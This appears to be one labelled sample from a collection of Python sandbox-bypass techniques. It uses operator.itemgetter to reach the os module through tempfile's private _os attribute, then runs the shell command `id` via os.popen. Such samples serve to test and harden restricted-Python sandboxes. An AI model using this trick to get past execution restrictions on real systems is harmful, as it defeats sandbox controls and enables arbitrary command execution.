# class: reflective | technique: operator.itemgetter pulls tempfile's private _os (the os module) out of tempfile.__dict__ | effect: runs `id` via os.popen
import operator
import tempfile

pick = operator.itemgetter("_os", "_shutil")
osmod, _ = pick(tempfile.__dict__)
print(osmod.popen("id").read().strip())
